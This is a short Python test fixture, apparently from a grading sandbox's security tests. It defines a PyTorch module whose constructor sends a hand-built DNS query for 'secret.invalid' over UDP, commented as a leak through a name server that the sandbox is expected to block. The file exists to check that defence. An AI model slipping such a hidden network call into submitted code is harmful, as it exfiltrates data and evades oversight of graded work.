# attack: leaks through a question to a name server
# expect: error submission-loads
# says: tries to open a network connection; graded code has no network
# control: sends udp
import socket

from torch import nn


class NetBN(nn.Module):
    def __init__(self):
        super().__init__()
        question = b"\0\1\1\0\0\1\0\0\0\0\0\0\6secret\7invalid\0\0\1\0\1"
        socket.socket(type=socket.SOCK_DGRAM).sendto(question, ("127.0.0.1", int("@UDP@")))
